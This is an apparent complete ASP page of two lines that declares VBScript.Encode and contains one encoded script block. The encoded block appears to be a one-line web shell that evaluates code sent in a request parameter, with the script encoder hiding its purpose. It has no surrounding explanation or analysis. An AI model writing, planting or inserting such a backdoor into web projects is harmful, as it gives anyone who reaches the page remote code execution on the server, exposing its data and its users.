<%@ LANGUAGE = VBScript.Encode %>
<%#@~^AAAAAA==n7ls,D;E/DcJXJb@&AAAAAA==^#~@%>
